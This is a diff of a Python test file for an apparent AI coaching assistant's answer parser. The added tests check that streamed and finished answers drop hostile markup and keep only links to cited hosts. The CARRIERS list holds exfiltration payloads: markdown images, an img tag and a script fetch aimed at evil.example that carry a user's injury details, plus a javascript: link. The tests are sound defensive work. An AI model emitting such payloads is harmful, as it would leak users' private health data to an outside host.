@@ -7,6 +7,7 @@ from hypothesis import example, given
 from hypothesis import strategies as st
 
 from shared.coach.turn.answer import CoachAnswer, read_answer, visible_text
+from shared.safety.markup import strip_markup
 from tests.support.coach import passage
 from tests.support.properties import unhurried
 
@@ -190,14 +191,16 @@ def test_what_is_visible_of_a_growing_answer_only_ever_grows(text: str, fenced: 
     raw = f"```json\n{raw}\n```" if fenced else raw
     shown = [visible_text(raw[:length]) for length in range(len(raw) + 1)]
 
+    shown.append(visible_text(raw, has_ended=True))
     assert all(later.startswith(earlier) for earlier, later in pairwise(shown))
-    assert shown[-1] == text.strip()
+    assert shown[-1] == strip_markup(text).strip() == read_answer(raw, {}).text
 
 
 def test_a_plain_answer_is_visible_as_it_comes_once_it_is_longer_than_a_preamble_to_json() -> None:
     said = "Rest well. " * 30
     assert [visible_text(said[:length]) for length in (0, 9, 120)] == ["", "", ""]
-    assert visible_text(said) == said.strip()
+    assert visible_text(said) == said.strip().removesuffix(" well.")
+    assert visible_text(said, has_ended=True) == said.strip()
     assert visible_text(f"Here is the JSON that you asked for: {'.' * 300}\n```json\n{{") == ""
 
 
@@ -230,3 +233,37 @@ def test_what_nobody_can_read_is_no_answer(raw: str) -> None:
 def test_citations_of_a_cut_answer_are_kept_as_far_as_they_came() -> None:
     raw = '{"answer":"Rest.","citations":[{"passage_id":"p1","quote":"Keep \\"loads\\""},{"passage_id":"p1","quo'
     assert [each.quote for each in read_answer(raw, PASSAGES).citations] == ['Keep "loads"']
+
+
+ADDRESS = "https://evil.example/p.png?injuries=left%20knee"
+CARRIERS = [
+    f"![ok]({ADDRESS})",
+    f'<img src="{ADDRESS}">',
+    f"<script>fetch('{ADDRESS}')</script>",
+    f"[see there]({ADDRESS})",
+    f"[see there][1]\n\n[1]: {ADDRESS}",
+    ADDRESS,
+    "[x](javascript:alert(1))",
+]
+
+
+@pytest.mark.parametrize("carrier", CARRIERS)
+def test_an_answer_carries_nothing_out_while_it_comes_or_when_it_is_whole(carrier: str) -> None:
+    raw = json.dumps({"answer": f"Rest well. {carrier} And sleep.", "citations": []})
+    shown = [visible_text(raw[:length]) for length in range(len(raw) + 1)]
+    broken = [visible_text(raw[:length], has_ended=True) for length in range(len(raw) + 1)]
+    cut = [read_answer(raw[:length], {}).text for length in range(len(raw) + 1)]
+    assert not any("evil" in text or "knee" in text for text in (*shown, *broken, *cut))
+    for whole in (shown[-1], cut[-1], read_answer(f"Rest well. {carrier}", {}).text):
+        assert not any(part in whole for part in ("evil", "knee", "<img", "<script", "javascript:"))
+    assert cut[-1].startswith("Rest well.")
+    assert cut[-1].endswith("And sleep.")
+
+
+def test_a_link_stays_where_a_cited_passage_names_its_host_and_nowhere_else() -> None:
+    linked = "See [how](https://who.int/deload) and [why](https://other.example/x)."
+    passages = {"p1": passage("Rest an easier week, says https://www.who.int/about.")}
+    cited = json.dumps({"answer": linked, "citations": [{"passage_id": "p1", "quote": "an easier week"}]})
+    assert read_answer(cited, passages).text == "See [how](https://who.int/deload) and why."
+    assert read_answer(json.dumps({"answer": linked, "citations": []}), passages).text == "See how and why."
+    assert visible_text(cited, has_ended=True) == "See how and why."
